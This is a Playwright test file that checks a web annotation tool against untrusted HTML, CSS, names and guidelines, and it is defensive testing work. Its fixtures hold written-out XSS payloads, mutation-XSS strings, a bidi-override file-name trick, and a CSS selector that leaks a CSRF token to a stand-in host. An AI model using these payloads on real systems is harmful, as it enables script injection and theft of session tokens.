"""Texts, names, pages, styles and files of strangers: nothing of them runs, nothing leaves, nothing is laid over the page.

That no page asks another host for anything, and that none breaks its content policy, the harness sees to in every test.
"""

# ruff: noqa: E501 - what is put before the page is easier to judge in one piece.
from __future__ import annotations

import base64
from xml.sax.saxutils import quoteattr

import pytest
from playwright.sync_api import Page, expect

ELSEWHERE = "http://elsewhere.invalid"
RUN = "window.ran=1"
MARKUP = f"<img src=x onerror={RUN}><script>{RUN}</script><svg onload={RUN}><b>bold</b>"
DRAWING = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'.encode()).decode()
# Turned around, "txt.exe" reads "exe.txt"; unclosed, it would turn what follows as well.
TURNED = "\u202egpj.exe\u2066"
LONG = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft" * 8
NAMES = {
    "markup": MARKUP,
    "quotes": f'"><script>{RUN}</script>',
    "template": "{{ 7*7 }} ${window.ran=1} {% load x %} <!--",
    "turned": TURNED,
    "long": LONG,
}
PAGES = {
    "scripts": f"<p>text</p><script>{RUN}</script><script src='{ELSEWHERE}/a.js'></script><noscript><p>no</p></noscript>",
    "handlers": f"<p onclick='{RUN}' onmouseover='{RUN}' onfocus={RUN} tabindex=0 autofocus>text</p><body onload={RUN}><details open ontoggle={RUN}>x</details>",
    "pictures": f"<p>text</p><img src=x onerror={RUN}><img src='{ELSEWHERE}/a.png' srcset='{ELSEWHERE}/b.png 2x'><picture><source srcset='{ELSEWHERE}/c.png'><img></picture>",
    "links": f"<p>text</p><a href='javascript:{RUN}' id=go>go</a><a href='{ELSEWHERE}' target=_top ping='{ELSEWHERE}/ping'>out</a><area href='{ELSEWHERE}'>",
    "drawings": f"<p>text</p><svg onload={RUN}><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text>t</text></a><use href='{ELSEWHERE}/x.svg#a'/><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe></foreignObject><animate onbegin={RUN} attributeName=x dur=1s></svg><math href='javascript:{RUN}'><mi>m</mi></math>",
    "a drawing as a picture": f"<p>text</p><img src='data:image/svg+xml;base64,{DRAWING}'><object data='data:image/svg+xml;base64,{DRAWING}'></object><embed src='data:text/html,<script>parent.{RUN}</script>'>",
    "frames": f"<p>text</p><iframe src='{ELSEWHERE}'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe><frameset><frame src='javascript:{RUN}'></frameset>",
    "forms": f"<form action='{ELSEWHERE}' id=boot name=boot><input name=csrfmiddlewaretoken autofocus onfocus={RUN}><input name=attributes><button formaction='javascript:{RUN}'>Submit</button><p>text</p></form>",
    "the document": f"<html onclick={RUN}><head><base href='{ELSEWHERE}/'><meta http-equiv=refresh content='0;url={ELSEWHERE}'><link rel=stylesheet href='{ELSEWHERE}/a.css'><link rel=preload as=image href='{ELSEWHERE}/p.png'><title>t</title></head><body background='{ELSEWHERE}/bg.png'><p>text</p></body></html>",
    "styles": f"<style>@import '{ELSEWHERE}/a.css'; * {{ display: none !important }} body {{ background: url({ELSEWHERE}/b.png) }}</style><p style='position:fixed;inset:0;z-index:99999;background:red;width:100vw;height:100vh'>text</p><div style=\"background-image:url({ELSEWHERE}/c.png);list-style:url('{ELSEWHERE}/d.png');cursor:url({ELSEWHERE}/e.cur),auto;content:url({ELSEWHERE}/f)\">styled</div><p style='margin-top:-4000px;transform:scale(99);box-shadow:0 0 0 9999px red'>moved</p>",
    "names of the page's own": "<p>text</p><div id=boot>{}</div><form id=boot></form><a id=adoptedStyleSheets name=cookie></a><img name=querySelector><img name=getElementById><input name=body><div class='desk-actions task'>x</div>",
    "elements of the page's own": "<an-annotator>text</an-annotator><an-style></an-style><an-hypertext></an-hypertext><x-y is=an-text></x-y>",
    "media": f"<p>text</p><video src='{ELSEWHERE}/a.mp4' poster='{ELSEWHERE}/p.png' autoplay></video><audio src='{ELSEWHERE}/a.mp3' autoplay onerror={RUN}></audio><track src='{ELSEWHERE}/t.vtt'>",
    "mutations": f'<p>text</p><svg></p><style><a id="</style><img src=1 onerror={RUN}>"><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;"><template><img src=x onerror={RUN}></template><noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "a table that never ends": "<p>text</p>" + "<table><tr><td>" * 300 + LONG,
    "turned around": f"<p>text {TURNED}</p><bdo dir=rtl>abc</bdo>",
}
HTML = '<View><HyperText name="h" value="$html"/><HyperTextLabels name="l" toName="h"><Label value="A"/></HyperTextLabels></View>'
# Each button of the page is what is found at its middle.
COVERED = """() => [...document.querySelectorAll('.desk-bar button, .desk-actions button, header a')].filter(e => e.checkVisibility()).filter(e => {
    const box = e.getBoundingClientRect()
    if (box.bottom < 0 || box.top > innerHeight) return false
    return !e.contains(document.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2))
}).map(e => e.textContent.trim())"""


def well(page: Page) -> None:
    """Nothing ran, the page is where it was and as wide as the window, and what one works with can be reached."""
    page.wait_for_load_state("networkidle")
    page.mouse.move(400, 400)
    assert not page.evaluate("'ran' in window")
    assert page.url.endswith("/annotate/")
    assert page.evaluate(COVERED) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert (
        page.evaluate(
            "document.querySelectorAll('script:not([src]):not([type=\"application/json\"]), .task :is(script, iframe, object, embed, base, link, meta, form, style, [href])').length"
        )
        == 0
    )
    assert page.evaluate("JSON.parse(document.getElementById('boot').textContent).project.id") > 0


@pytest.mark.parametrize("name", PAGES)
def test_a_page_is_only_read(house, sit_down, name):
    project = house.project([{"html": PAGES[name]}], label_config=HTML)
    page = sit_down(project)
    shown = page.locator(".tag-html")
    expect(shown).to_contain_text("text")
    well(page)
    shown.get_by_text("text").first.click()
    page.keyboard.press("ArrowRight")
    page.keyboard.press("1")
    page.locator(".desk-actions .submit").click()
    expect(page.locator("an-post .badge")).to_contain_text("Saved")
    assert not page.evaluate("'ran' in window")
    assert project.results()[0][0]["value"]["hypertextlabels"] == ["A"]


@pytest.mark.parametrize("name", NAMES)
def test_names_in_a_label_config_are_only_names(house, sit_down, name):
    said = quoteattr(NAMES[name])
    config = (
        f'<View><Header value={said}/><Text name="text" value="$text"/><Choices name="c" toName="text" title={said} choice="multiple">'
        f'<Choice value={said} alias="a" hint={said}/><Choice value="b" alias={said}/></Choices>'
        f'<Labels name="l" toName="text" title={said}><Label value={said} hint={said} background={said}/></Labels>'
        f'<TextArea name="t" toName="text" placeholder={said} title={said}/><Video name="v" value={said} title={said}/></View>'
    )
    project = house.project([NAMES[name]], label_config=config)
    page = sit_down(project)
    page.keyboard.press("1")
    expect(page.locator(".choice").first).to_contain_text(NAMES[name].split("\u202e")[-1].split("\u2066")[0][:40].strip())
    well(page)
    for part in (".choice .said > span", ".label-button .name", ".tag-header"):
        assert page.locator(part).first.evaluate("e => getComputedStyle(e).unicodeBidi") in ("isolate", "plaintext"), part
    page.keyboard.press("ArrowRight")
    page.locator(".label-button").first.click()
    expect(page.get_by_role("option")).to_have_count(1)
    well(page)
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_be_visible()
    assert not page.evaluate("'ran' in window")


@pytest.mark.parametrize("name", NAMES)
def test_what_a_task_holds_is_only_text(house, sit_down, name):
    said = NAMES[name]
    config = (
        '<View><Text name="text" value="$text"/><Paragraphs name="d" value="$dialogue" layout="dialogue"/><Table name="t" value="$record"/>'
        '<Image name="i" value="$file"/><Chat name="k" value="$text"/><Choices name="c" toName="text" value="$options"><Choice value="x"/></Choices></View>'
    )
    data = {
        **{"text": said, "dialogue": [{"author": said, "text": said}], "record": {said: said, "list": [said]}},
        **{"file": f"/no/such/{said}.png", "options": [said]},
    }
    page = sit_down(house.project([data], label_config=config))
    for part in ("an-paragraphs li p", "an-paragraphs .who", "an-table td", "an-table th", "an-unknown pre"):
        assert page.locator(part).filter(has_text=said.strip("\u202e\u2066")[:30].strip()).count(), part
    assert page.locator("an-paragraphs li p").text_content() == said
    well(page)


STYLES = {
    "covers the page": ".a { position: fixed; inset: 0; z-index: 99999; background: red; width: 500vw; height: 500vh; transform: scale(50); box-shadow: 0 0 0 9999px red; outline: 900px solid red }",
    "reaches out": "body, html, .desk-actions, an-annotator, .task ~ *, .desk-bar { display: none; visibility: hidden; opacity: 0 } & { display: none } :root { --text: red } :is(body) footer { display: none } ~ footer { display: none }",
    "fetches": f"@import url('{ELSEWHERE}/a.css'); @font-face {{ font-family: x; src: url({ELSEWHERE}/f.woff2) }} .a {{ background: url('{ELSEWHERE}/b.png'); font-family: x; list-style-image: url({ELSEWHERE}/c.png); background-image: image-set('{ELSEWHERE}/d.png' 1x) }} .a::before {{ content: url({ELSEWHERE}/e.png) }}",
    "hides behind layers": f"@layer x {{ .desk-actions {{ display: none }} }} @supports (display: grid) {{ body {{ display: none }} }} @media all {{ body {{ display: none }} .a {{ background: url({ELSEWHERE}/m.png) }} @media print {{ * {{ display: none }} }} }} @scope (body) {{ footer {{ display: none }} }}",
    "breaks out of its braces": "} body { display: none } .a { color: red; }} /* </style><script>window.ran=1</script>",
    "hides its own task": "* { display: none !important; opacity: 0; visibility: hidden; pointer-events: none; user-select: none }",
    "is wider than the page": ".a { width: 9000px; min-width: 9000px; margin-left: -4000px; padding-right: 5000px; font-size: 40px }",
    "reads": f"input[name=csrfmiddlewaretoken][value^=a] {{ background: url({ELSEWHERE}/a) }} .a {{ content: attr(data-x); background: var(--x, url({ELSEWHERE}/v)) }}",
}


@pytest.mark.parametrize("name", STYLES)
def test_a_style_sheet_stays_within_its_task(house, sit_down, name):
    css = STYLES[name].replace("&", "&amp;").replace("<", "&lt;")
    config = (
        f'<View className="a"><Style>{css} .b {{ color: rgb(1, 2, 3) }}</Style><View className="a b task desk-actions"><Text name="text" value="$text"/></View>'
        '<Choices name="c" toName="text"><Choice value="x"/><Choice value="y"/></Choices></View>'
    )
    project = house.project(["a text"], label_config=config)
    page = sit_down(project)
    expect(page.locator(".tag-text")).to_have_text("a text")
    well(page)
    page.get_by_role("radio", name="x").evaluate("e => e.scrollIntoView({ block: 'center' })")
    page.get_by_role("radio", name="x").click()
    page.get_by_role("button", name="Submit").click()
    expect(page.locator("an-post .badge")).to_contain_text("Saved")
    assert page.evaluate("getComputedStyle(document.body).display") == "flex"


@pytest.mark.parametrize("name", STYLES)
def test_a_style_attribute_stays_in_its_box(house, sit_down, name):
    declared = STYLES[name].split("{", 1)[1].split("}")[0] if "{" in STYLES[name] else STYLES[name]
    config = f'<View style={quoteattr(declared)}><Text name="text" value="$text"/><Choices name="c" toName="text"><Choice value="x"/></Choices></View>'
    page = sit_down(house.project(["a text"], label_config=config))
    expect(page.locator(".tag-text")).to_have_text("a text")
    well(page)
    page.keyboard.press("1")
    expect(page.get_by_role("radio", name="x")).to_be_checked()


def test_styles_are_gone_with_their_config(house, visit):
    config = '<View><Style>.a { color: rgb(1, 2, 3) }</Style><View className="a"><Header value="A heading" size="1"/><Text name="text" value="$text"/></View><Choices name="c" toName="text"><Choice value="x"/></Choices></View>'
    project = house.project(["a text"], label_config=config)
    page = visit("kim").new_page()
    page.goto(project.page + "annotate/")
    expect(page.locator(".tag-text")).to_have_css("color", "rgb(1, 2, 3)")
    assert page.evaluate("document.adoptedStyleSheets.length") == 1
    page.keyboard.press("1")
    page.keyboard.press("Enter")
    expect(page.locator(".desk .empty h2")).to_be_visible()
    assert page.evaluate("document.adoptedStyleSheets.length") == 0


def test_a_guideline_is_only_read(house, sit_down):
    guideline = (
        f"# Rules\n\n{MARKUP}\n\n[go](javascript:{RUN}) [data](data:text/html,<script>{RUN}</script>) ![p]({ELSEWHERE}/p.png)\n\n"
        f'<form action="{ELSEWHERE}"><input name=x></form><a href="vbscript:x">v</a><style>body {{ display: none }}</style>\n\n{TURNED}\n\n{LONG}\n'
    )
    project = house.project(["a text"], guideline=guideline)
    page = sit_down(project, guideline=True)
    expect(page.locator("aside.guideline, .guideline").first).to_contain_text("Rules")
    page.wait_for_load_state("networkidle")
    assert not page.evaluate("'ran' in window")
    assert page.evaluate("document.querySelectorAll('.guideline :is(script, svg, iframe, object, style, form[action])').length") == 0
    assert page.evaluate("[...document.querySelectorAll('.guideline a[href]')].filter(a => !/^https?:$/.test(a.protocol)).length") == 0
    assert page.evaluate(COVERED) == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_no_policy_of_a_page_lets_inline_code_run(house, visit):
    project = house.project(["a text"])
    page = visit("lee").new_page()
    for path in ("", "annotate/", "guideline/", "imports/", "settings/", "members/", "releases/"):
        policy = page.goto(project.page + path).headers["content-security-policy"]
        assert "unsafe" not in policy
        rules = {rule.split()[0]: rule.split()[1:] for rule in policy.split(";")}
        assert rules["default-src"] == ["'self'"]
        assert rules["object-src"] == rules["frame-ancestors"] == ["'none'"]
        assert rules["base-uri"] == rules["form-action"] == ["'self'"]


@pytest.mark.parametrize("name", ["markup", "quotes", "template", "turned"])
def test_names_of_files_and_people_are_only_names(house, visit, name):
    """As far as a file system takes them; a person's name takes anything."""
    said = NAMES[name].replace("/", "")
    project = house.project(["a text"])
    page = visit("lee").new_page()
    page.goto(project.page + "imports/")
    page.get_by_label("A file").set_input_files({"name": f"{said}.csv", "mimeType": "text/csv", "buffer": b"text\nfirst\n"})
    page.get_by_role("button", name="Import", exact=True).click()
    sent = said.replace('"', "%22")  # as a browser sends it
    expect(page.get_by_role("main")).to_contain_text(sent.strip("\u202e\u2066")[:12])
    assert not page.evaluate("'ran' in window")
    house.shell(
        f"from annotate.accounts.models import User; u = User.objects.get(email='park@example.org'); old = u.name; u.name = {NAMES[name]!r}; u.save(); print(old)"
    )
    try:
        for path in ("members/", "imports/", ""):
            page.goto(project.page + path)
            assert not page.evaluate("'ran' in window")
            assert page.locator("main script, main svg[onload], main img[onerror]").count() == 0
        page.goto(project.page + "members/")
        expect(page.get_by_role("main")).to_contain_text(NAMES[name].strip("\u202e\u2066")[:12])
    finally:
        house.shell(
            "from annotate.accounts.models import User; print(User.objects.filter(email='park@example.org').update(name='Park Jun'))"
        )
